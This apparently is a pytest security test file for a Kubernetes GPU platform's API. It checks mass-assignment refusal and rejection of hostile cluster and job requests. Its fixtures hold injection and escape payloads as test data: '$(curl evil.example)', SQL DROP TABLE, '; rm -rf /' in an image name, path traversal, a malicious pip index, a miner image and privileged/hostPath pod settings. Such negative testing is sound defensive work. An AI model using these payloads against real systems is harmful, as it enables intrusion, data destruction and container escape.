"""API abuse, the parts no other test covers: mass assignment on every write route, and
hostile cluster and job requests (``reliability/abuse.py`` runs these with the schema
fuzzer, the access matrix and the sign-in lockout tests for ``make reliability``).

Mass assignment: every API write route of the access tables gets its valid body plus
each field a caller must never set (owner, tenant, state, holds_gpus, is_staff, ...), as
an actor the table says succeeds; the field must be refused by name with a 400 and
nothing written. Hostile requests: cluster and job requests that try to escape the pod
(privileged, hostPath, host network, every GPU of the node, an image off the
allow-list, a NodePort), absurd sizes, odd names, injection strings and deep nesting;
each must be a 400 that says what is wrong, and no row is written. The manifests are
rendered from rows (the reconciler applies what a row says, nothing else), so a request
that leaves no row cannot reach Kubernetes.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.access.test_bodies import _api_writes, _prepare, _send, _snapshot
from tests.access.test_route_matrix import world  # noqa: F401 (fixture)

# Fields a caller must never set through the API, whatever the route.
PROTECTED = {
    "owner": 1,
    "owner_id": 1,
    "tenant": "globex",
    "tenant_id": 1,
    "state": "ready",
    "holds_gpus": True,
    "is_staff": True,
    "is_superuser": True,
    "source": "oidc",
    "admitted_at": "2020-01-01T00:00:00Z",
    "id": 999999,
    "created_at": "2020-01-01T00:00:00Z",
    "namespace": "kube-system",
}
# Fields a route's own table body sets legitimately (a tenant's namespace on creation):
# those are that route's business, and checked by its own tests.
OWN = {"namespace", "state"}
# Fields a route may take from the one actor allowed to call it: a platform admin makes
# a user a platform admin (``is_staff``) through the users API, and caps a tenant's quota
# on one Kubernetes cluster (the cap names its tenant); both are audited.
LEGITIMATE = {("api/v1/users/", "is_staff"), ("api/v1/platform/quota-caps/", "tenant")}


@pytest.mark.parametrize(
    ("template", "method", "route", "case"),
    [pytest.param(*write, id=f"{write[1]} {write[0]}") for write in _api_writes()],
)
def test_no_protected_field_is_mass_assigned(
    world: Any,  # noqa: F811
    template: str,
    method: str,
    route: Any,
    case: Any,
) -> None:
    url, client = _prepare(world, template, route, case)
    valid = case.body(world) if case.body else {}
    for name, value in PROTECTED.items():
        if (name in valid and name in OWN) or (template, name) in LEGITIMATE:
            continue
        before = _snapshot()
        response = _send(client, method, url, json.dumps({**valid, name: value}))
        assert response.status_code == 400, (name, response.status_code, response.content[:300])
        assert name in response.json()["error"]["fields"], (name, response.json())
        assert _snapshot() == before, name


DEEP: dict[str, Any] = {"a": "x"}
for _ in range(60):
    DEEP = {"a": DEEP}
LONG = "a" * 300
INJECTIONS = [
    "'; DROP TABLE clusters_clusterrequest; --",
    "$(curl evil.example)",
    "`id`",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "a\nb",
    "a\x00b",
]

# (label, workload, body overrides): each merged over a valid cluster or job body.
HOSTILE: list[tuple[str, str, dict[str, Any]]] = [
    ("privileged", "cluster", {"privileged": True}),
    ("securityContext", "cluster", {"securityContext": {"privileged": True}}),
    ("hostPath volume", "cluster", {"volumes": [{"hostPath": {"path": "/"}}]}),
    ("hostNetwork", "cluster", {"hostNetwork": True}),
    ("hostPID", "cluster", {"hostPID": True}),
    ("NodePort service", "cluster", {"service_type": "NodePort"}),
    ("serviceType NodePort", "cluster", {"serviceType": "NodePort"}),
    ("node selector", "cluster", {"nodeSelector": {"kubernetes.io/hostname": "n1"}}),
    ("tolerations", "cluster", {"tolerations": [{"operator": "Exists"}]}),
    ("NVIDIA_VISIBLE_DEVICES=all", "cluster", {"env": {"NVIDIA_VISIBLE_DEVICES": "all"}}),
    ("NVIDIA_VISIBLE_DEVICES=0,1", "cluster", {"env": {"NVIDIA_VISIBLE_DEVICES": "0,1"}}),
    ("CUDA_VISIBLE_DEVICES", "cluster", {"env": {"CUDA_VISIBLE_DEVICES": "0,1,2,3"}}),
    ("NVIDIA_DRIVER_CAPABILITIES", "cluster", {"env": {"NVIDIA_DRIVER_CAPABILITIES": "all"}}),
    ("LD_PRELOAD", "cluster", {"env": {"LD_PRELOAD": "/tmp/x.so"}}),
    ("env not a mapping", "cluster", {"env": ["A=1"]}),
    ("env nested value", "cluster", {"env": {"A": {"b": 1}}}),
    ("env bad name", "cluster", {"env": {"1 BAD": "x"}}),
    ("image off the allow-list", "cluster", {"image": "evil.example/miner:latest"}),
    ("image by digest off the list", "cluster", {"image": "docker.io/library/alpine@sha256:0"}),
    ("image injection", "cluster", {"image": "rayproject/ray; rm -rf /"}),
    ("workers absurd", "cluster", {"workers": 10**9}),
    ("workers negative", "cluster", {"workers": -1}),
    ("workers float", "cluster", {"workers": 1.5}),
    ("workers string", "cluster", {"workers": "many"}),
    # The schema says integer: a zero fraction, digits in a string or a boolean is not one.
    ("workers 1.0", "cluster", {"workers": 1.0}),
    ("workers digits in a string", "cluster", {"workers": "1"}),
    ("workers true", "cluster", {"workers": True}),
    ("ttl 8.0", "cluster", {"ttl_hours": 8.0}),
    ("priority 1.0", "cluster", {"priority": 1.0}),
    ("max_workers absurd", "cluster", {"kind": "autoscaling", "max_workers": 10**6}),
    ("ttl absurd", "cluster", {"ttl_hours": 10**6}),
    ("ttl negative", "cluster", {"ttl_hours": -5}),
    ("priority absurd", "cluster", {"priority": 10**12}),
    ("gpu_fraction absurd", "cluster", {"gpu_fraction": "1e9"}),
    ("gpu_fraction zero", "cluster", {"gpu_fraction": "0"}),
    ("unknown flavor", "cluster", {"flavor": "tpu-v9"}),
    ("unknown kind", "cluster", {"kind": "privileged"}),
    ("overlong name", "cluster", {"name": LONG}),
    ("unicode name", "cluster", {"name": "clüster-ñame"}),
    ("emoji name", "cluster", {"name": "gpu-\U0001f525"}),
    ("upper-case name", "cluster", {"name": "BobDev"}),
    ("name with dots", "cluster", {"name": "a.b.c"}),
    ("name with slash", "cluster", {"name": "a/b"}),
    ("deep nesting", "cluster", {"env": DEEP}),
    ("deep flavors", "cluster", {"flavors": [[["l4"]]]}),
    *[(f"name injection {i}", "cluster", {"name": s}) for i, s in enumerate(INJECTIONS)],
    ("job privileged", "job", {"privileged": True}),
    ("job hostPath", "job", {"volumes": [{"hostPath": {"path": "/var/run"}}]}),
    ("job hostNetwork", "job", {"hostNetwork": True}),
    ("job NVIDIA_VISIBLE_DEVICES=all", "job", {"env": {"NVIDIA_VISIBLE_DEVICES": "all"}}),
    ("job image off the list", "job", {"image": "evil.example/miner:latest"}),
    ("job workers absurd", "job", {"workers": 10**9}),
    ("job deadline 600.0", "job", {"active_deadline_seconds": 600.0}),
    ("job entrypoint empty", "job", {"entrypoint": ""}),
    ("job entrypoint overlong", "job", {"entrypoint": "x" * 100_000}),
    ("job entrypoint not a string", "job", {"entrypoint": {"cmd": ["sh"]}}),
    ("job pip index", "job", {"runtime_env": {"pip": ["--index-url=http://evil.example"]}}),
    ("job runtime_env GPUs", "job", {"runtime_env": {"env_vars": {"CUDA_VISIBLE_DEVICES": "0"}}}),
    ("job runtime_env container", "job", {"runtime_env": {"container": {"image": "evil"}}}),
    ("job runtime_env local dir", "job", {"runtime_env": {"working_dir": "/etc"}}),
    ("job overlong name", "job", {"name": LONG}),
    ("job unicode name", "job", {"name": "jöb"}),
    ("job injection name", "job", {"name": INJECTIONS[0]}),
    ("job deep nesting", "job", {"env": DEEP}),
]
BODIES = {
    "cluster": {"kind": "dev", "flavor": "l4", "workers": 1},
    "job": {"entrypoint": "python train.py", "flavor": "l4", "workers": 1},
}


def test_there_are_at_least_fifty_hostile_requests() -> None:
    assert len(HOSTILE) >= 50


@pytest.mark.parametrize(("label", "workload", "extra"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_a_hostile_request_is_a_clear_400_and_writes_nothing(
    world: Any,  # noqa: F811
    label: str,
    workload: str,
    extra: dict[str, Any],
) -> None:
    from tests.access.test_route_matrix import _client

    client = _client(world.actors["engineer"])
    url = f"/api/v1/tenants/acme/{workload}s/"
    before = _snapshot()
    response = _send(client, "POST", url, json.dumps({**BODIES[workload], **extra}))
    assert response.status_code == 400, (label, response.status_code, response.content[:300])
    error = response.json()["error"]
    # Clear: a message, and the field at fault named when there is one.
    assert error["message"], error
    assert error.get("fields") or error["code"] != "invalid", error
    assert _snapshot() == before
